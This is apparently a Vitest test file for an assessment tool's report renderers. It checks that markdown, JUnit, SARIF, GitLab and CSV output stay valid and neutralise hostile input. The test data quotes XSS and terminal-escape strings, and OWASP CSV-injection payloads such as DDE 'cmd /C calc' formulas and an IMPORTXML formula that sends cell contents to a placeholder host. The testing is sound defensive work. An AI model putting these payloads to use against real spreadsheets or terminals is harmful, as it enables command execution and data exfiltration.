import { describe, expect, it } from 'vitest';
import { REPORT_FORMAT_REGISTRY } from '../../src/report/formats.js';
import type { Assessment } from '../../src/scoring/assessment.js';
import { nodesOfType, parseMarkdown, parseMermaid, parseXml, raggedTables, sarifSchemaErrors, tableLines } from '../helpers/consumers.js';
import { runBinary } from '../helpers/cli.js';
import { CSV_COLUMNS, csvField } from '../../src/report/csv.js';
import { gitlabCodeQualityErrors, hasXmllint, junitSchemaErrors, parseCsv } from '../helpers/machine-consumers.js';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';

const EXAMPLE = ['assess', '-a', 'examples/council-cyber-resilience.answers.yaml', '--today', '2026-11-23'];
const HOSTILE = ['assess', '-q', 'test/fixtures/hostile-render/hostile.yaml', '-a', 'test/fixtures/hostile-render/hostile.answers.yaml', '--today', '2026-11-23'];

async function render(args: string[], format: string): Promise<string> {
  const r = await runBinary({ args: [...args, '--format', format] });
  expect(r.code, r.stderr).toBe(0);
  return r.stdout;
}

const assessmentOf = async (args: string[]): Promise<Assessment> => JSON.parse(await render(args, 'json')) as Assessment;

describe.each([
  ['the example answers', EXAMPLE],
  ['hostile text', HOSTILE],
])('reports of %s, read by real consumers', (_name, args) => {
  it('markdown: every table well formed, no HTML, no links, and a mermaid chart that mermaid parses', async () => {
    const text = await render(args, 'markdown');
    const tree = parseMarkdown(text);
    expect(raggedTables(tree)).toEqual([]);
    // Every line that starts with a pipe belongs to a table the parser recognised.
    const rows = nodesOfType(tree, 'table').reduce((n, t) => n + t.children.length + 1, 0);
    expect(rows).toBe(tableLines(text));
    // No HTML but the reader's own line breaks in a table cell, which GFM draws as <br> (escapeCell):
    // the register of waivers in force gives a hostile reason's two lines so.
    expect(nodesOfType(tree, 'html').filter((n) => n.value !== '<br>')).toEqual([]);
    expect(nodesOfType(tree, 'link')).toEqual([]);
    expect(nodesOfType(tree, 'image')).toEqual([]);
    const charts = nodesOfType(tree, 'code').filter((c) => c.lang === 'mermaid');
    expect(charts).toHaveLength(1);
    await expect(parseMermaid(charts[0]?.value ?? '')).resolves.toMatchObject({ diagramType: 'xychart' });
  });

  it('junit: valid XML whose counts match the assessment', async () => {
    const a = await assessmentOf(args);
    const xml = parseXml(await render(args, 'junit'));
    const suites = xml.testsuites as Record<string, unknown> & { testsuite: { testcase: Record<string, unknown>[] }[] };
    // The first suite is the overall result: properties and words, no cases.
    const [overall, ...sections] = suites.testsuite as unknown as ({ '@id': string; testcase?: Record<string, unknown>[]; properties: { property: { '@name': string; '@value': string }[] } })[];
    expect(overall?.['@id']).toBe('overall');
    expect(overall?.testcase).toBeUndefined();
    const property = (name: string): string | undefined => overall?.properties.property.find((p) => p['@name'] === name)?.['@value'];
    expect(Number(property('score'))).toBeCloseTo(a.overall.score ?? NaN, 2);
    expect(property('rating')).toBe(a.overall.rating?.label ?? 'not rated');
    const cases = sections.flatMap((s) => s.testcase ?? []);
    const included = a.questions.filter((q) => q.included || q.status === 'not-applicable');
    expect(Number(suites['@tests'])).toBe(included.length);
    expect(cases).toHaveLength(included.length);
    expect(Number(suites['@failures'])).toBe(a.gaps.filter((g) => !g.accepted).length);
    expect(cases.filter((c) => 'failure' in c)).toHaveLength(a.gaps.filter((g) => !g.accepted).length);
    expect(suites['@skipped']).toBeUndefined(); // junit-10.xsd has no such attribute there
    expect(suites.testsuite.reduce((n, t) => n + Number((t as unknown as Record<string, string>)['@skipped']), 0)).toBe(a.notApplicable.length);
    expect(cases.filter((c) => 'skipped' in c)).toHaveLength(a.notApplicable.length);
    // The parser decodes entities, so names must come back exactly as written.
    expect(cases.map((c) => c['@name'])).toEqual(included.map((q) => `${q.id}: ${q.text}`));
  });

  it('sarif: valid against the official SARIF 2.1.0 schema, one result per gap at the answer line', async () => {
    const a = await assessmentOf(args);
    const log = JSON.parse(await render(args, 'sarif')) as { runs: { tool: { driver: { rules: { id: string }[] } }; results: { ruleId: string; level: string; suppressions?: unknown[]; locations: { physicalLocation: { artifactLocation: { uri: string }; region: { startLine: number; startColumn: number } } }[] }[] }[] };
    expect(sarifSchemaErrors(log)).toEqual([]);
    const run = log.runs[0];
    // One rule per question, and one for answers past review when there is one with no gap (the
    // example's risk register answer); a result per gap, then one per such answer.
    const lapsed = a.stale.filter((s) => !a.gaps.some((g) => g.question === s.question));
    expect(run?.tool.driver.rules.map((r) => r.id)).toEqual([...a.questions.map((q) => q.id), ...(lapsed.length ? ['cyber-ready.stale-answer'] : [])]);
    expect(run?.results.map((r) => r.ruleId)).toEqual([...a.gaps.map((g) => g.question), ...lapsed.map(() => 'cyber-ready.stale-answer')]);
    expect(run?.results.slice(0, a.gaps.length).map((r) => r.locations[0]?.physicalLocation.region)).toEqual(
      a.gaps.map((g) => ({ startLine: g.location?.line, startColumn: g.location?.column, endLine: g.location?.line, endColumn: (g.location?.column ?? 0) + g.question.length })),
    );
    expect(run?.results.filter((r) => r.suppressions).length).toBe(a.gaps.filter((g) => g.accepted).length);
  });

  it('junit: valid against the Jenkins junit-10.xsd, with and without gates', async () => {
    if (!hasXmllint()) return;
    const dir = mkdtempSync(join(tmpdir(), 'cyber-ready-junit-'));
    for (const [name, gates] of [['plain', []], ['gated', ['--fail-on', 'high', '--min-score', '90', '--fail-on-stale']]] as const) {
      const r = await runBinary({ args: [...args, ...gates, '--format', 'junit', '-o', join(dir, `${name}.xml`)] });
      expect([0, 1], r.stderr).toContain(r.code);
      expect(junitSchemaErrors(join(dir, `${name}.xml`))).toBe('');
    }
  });

  it('gitlab: valid Code Quality, one issue per gap at its answer, with distinct fingerprints', async () => {
    const a = await assessmentOf(args);
    const issues = JSON.parse(await render(args, 'gitlab')) as { check_name: string; location: { lines: { begin: number } } }[];
    expect(gitlabCodeQualityErrors(issues)).toEqual([]);
    const lapsed = a.stale.filter((s) => !a.gaps.some((g) => g.question === s.question));
    expect(issues.map((i) => i.check_name)).toEqual([...a.gaps.map((g) => `cyber-ready/${g.question}`), ...lapsed.map(() => 'cyber-ready.stale-answer')]);
    expect(issues.map((i) => i.location.lines.begin)).toEqual([...a.gaps.map((g) => g.location?.line), ...lapsed.map((s) => s.location?.line)]);
  });

  it('csv: one row per gap in rank order, read back exactly by a strict parser', async () => {
    const a = await assessmentOf(args);
    const text = await render(args, 'csv');
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(text);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows.slice(1).map((r) => [r[0], r[3]])).toEqual(a.gaps.map((g) => [String(g.rank), g.question]));
    for (const row of rows) expect(row).toHaveLength(CSV_COLUMNS.length);
  });

  it('text: no raw control characters reach the terminal', async () => {
    const text = await render(args, 'text');
    expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u);
  });

  it('csv: no raw control characters but the line ends and tabs a cell may hold', async () => {
    const text = await render(args, 'csv');
    expect(text).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u);
  });

  it('json: the strings are kept exactly as written', async () => {
    const a = await assessmentOf(args);
    expect(typeof a.questionnaire.title).toBe('string');
  });
});

describe('hostile text specifically', () => {
  it('json keeps hostile strings exactly, escape characters included', async () => {
    const a = await assessmentOf(HOSTILE);
    expect(a.organisation).toBe("Org | <script>alert(1)</script> ]]> \u001b[2J");
    expect(a.questions[0]?.note).toContain('\u001b]8;;http://evil');
  });

  it('markdown shows the hostile text as text', async () => {
    const text = await render(HOSTILE, 'markdown');
    expect(text).toContain('Org \\| &lt;script&gt;alert(1)&lt;/script&gt; \\]\\]&gt;');
    expect(text).not.toContain('\u001b');
  });

  it('sarif places an unanswered question with no entry at the top of the answers file, not in the questionnaire', async () => {
    const r = await runBinary({ args: ['assess', '--questionnaire-dir', 'test/fixtures/valid', '-a', 'test/fixtures/valid/mini-incomplete.answers.yaml', '--allow-incomplete', '--today', '2026-11-23', '-f', 'sarif'] });
    const log = JSON.parse(r.stdout) as { runs: { results: { ruleId: string; locations: { physicalLocation: { artifactLocation: { uri: string }; region: { startLine: number } } }[] }[] }[] };
    const budget = log.runs[0]?.results.find((x) => x.ruleId === 'budget');
    expect(budget?.locations[0]?.physicalLocation).toEqual({
      artifactLocation: { uri: 'test/fixtures/valid/mini-incomplete.answers.yaml', uriBaseId: '%SRCROOT%' },
      region: { startLine: 1, startColumn: 1, endLine: 1 },
    });
  });
});

describe('registry', () => {
  it('has one pure renderer per SPEC format', () => {
    expect(Object.keys(REPORT_FORMAT_REGISTRY).sort()).toEqual(['csv', 'docx', 'gitlab', 'html', 'json', 'junit', 'markdown', 'sarif', 'text']);
  });
});

describe('junit with gates', () => {
  const gated = (gates: string[]) => runBinary({ args: [...EXAMPLE, ...gates, '--format', 'junit'] });

  it('fails only the cases whose gap fails a requested gate, and has one gates case per gate', async () => {
    const a = JSON.parse((await runBinary({ args: [...EXAMPLE, '--fail-on', 'critical', '--min-score', '10', '--format', 'json'] })).stdout) as Assessment;
    const r = await gated(['--fail-on', 'critical', '--min-score', '10']);
    expect(r.code).toBe(1);
    const xml = parseXml(r.stdout);
    const suites = (xml.testsuites as { testsuite: { '@name': string; testcase?: Record<string, unknown>[] }[] }).testsuite;
    const failing = a.gaps.filter((g) => !g.accepted && g.severity === 'critical').map((g) => g.question);
    const failedCases = suites.filter((s) => s['@name'] !== 'gates').flatMap((s) => (s.testcase ?? []).filter((c) => 'failure' in c).map((c) => String(c['@name']).split(':')[0]));
    expect(failedCases.sort()).toEqual([...failing].sort());
    // Other gaps pass, and say so.
    const passing = suites.flatMap((s) => s.testcase ?? []).filter((c) => !('failure' in c) && 'system-out' in c);
    expect(passing.length).toBeGreaterThan(40);
    const gates = suites.find((s) => s['@name'] === 'gates');
    expect(gates?.testcase?.map((c) => [c['@name'], 'failure' in c])).toEqual([
      ['overall score at least 10', false],
      ['no unwaived gap of severity critical', true],
    ]);
  });

  it('with every requested gate passing, no case fails', async () => {
    const r = await gated(['--min-score', '10']);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toContain('<failure');
    expect(r.stdout).toMatch(/<testsuites [^>]* failures="0"/);
  });

  it('puts the whole message in the failure body, where GitLab shows it', async () => {
    const r = await gated([]);
    const body = /<testcase [^>]*name="base-pci-dss[^>]*>\s*<failure message="([^"]*)"[^>]*>([^<]*)<\/failure>/.exec(r.stdout);
    expect(body?.[1]).toContain('waiver expired 2026-09-30');
    expect(body?.[2]).toContain('waiver expired 2026-09-30');
  });
});

describe('csv made safe for spreadsheets', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1+2', "'-1+2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['=HYPERLINK("http://x","y")', `"'=HYPERLINK(""http://x"",""y"")"`],
    ['plain, with comma', '"plain, with comma"'],
    ['a "quote"', '"a ""quote"""'],
    ['line\nbreak', '"line\nbreak"'],
    ['safe = later', 'safe = later'],
    // White space before a sign: LibreOffice's "Trim spaces" import runs " =1+1".
    [' =1+1', "' =1+1"],
    ['  - item', "'  - item"],
    ['\n@x', `"'\n@x"`],
    ['\u3000=1', "'\u3000=1"],
    // The full-width signs, which Excel in a Japanese or Chinese setting reads as the ASCII ones.
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['\uFF0B1', "'\uFF0B1"],
    ['\uFF0D1', "'\uFF0D1"],
    ['\uFF20SUM(A1)', "'\uFF20SUM(A1)"],
    // Readable text stays as written: a sign later on, a full-width letter, a space before a word.
    [' plain', ' plain'],
    ['\uFF21 wide letter', '\uFF21 wide letter'],
  ])('%j becomes %j', (value, field) => {
    expect(csvField(value)).toBe(field);
  });

  // Payloads from the OWASP "CSV Injection" page and its usual variants.
  it.each([
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+2+5+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://example.invalid/?v=", A1), "//a")',
    '=WEBSERVICE("http://example.invalid")',
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    '\t=1+1',
    '\r=1+1',
    '\r\n=1+1',
  ])('the payload %j reads back as text', (payload) => {
    const [cell] = parseCsv(`${csvField(payload)}\r\n`)[0] ?? [];
    expect(cell).toBe(`'${payload}`);
  });

  it('any text reads back exactly, behind an apostrophe only when it would start a formula', () => {
    // Starts with a sign, tab or CR (SPEC), or with white space and then a sign, ASCII or full-width.
    const formula = (text: string): boolean => /^[\t\r]/.test(text) || /^[=+\-@＝＋－＠]/.test(text.trimStart());
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n', '\u3000', ',', '"', "'", 'a', ' ', '£') }), (text) => {
        const [cell] = parseCsv(`${csvField(text)},end\r\n`)[0] ?? [];
        expect(cell).toBe(formula(text) ? `'${text}` : text);
      }),
    );
  });

  it('no cell of the action plan starts a formula, whatever the questionnaire and answers say', async () => {
    const r = await runBinary({ args: ['assess', '-q', 'test/fixtures/csv/formula.yaml', '-a', 'test/fixtures/csv/formula.answers.yaml', '--today', '2026-11-23', '-f', 'csv'] });
    expect(r.code, r.stderr).toBe(0);
    const rows = parseCsv(r.stdout);
    expect(rows).toHaveLength(5);
    const cells = rows.flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    // The text itself is all there, behind the apostrophe.
    expect(cells).toContain("'=cmd|' /C notepad'!A1");
    expect(cells).toContain('Line one\nline two; £ and — survive');
    expect(rows[1]?.[2]).toBe("'=1+1");
    // Escape sequences and bidirectional overrides are shown, never sent raw to a terminal.
    expect(cells).toContain('Head of ICT, Digital\\x1b[2J\\u202e');
  });
});
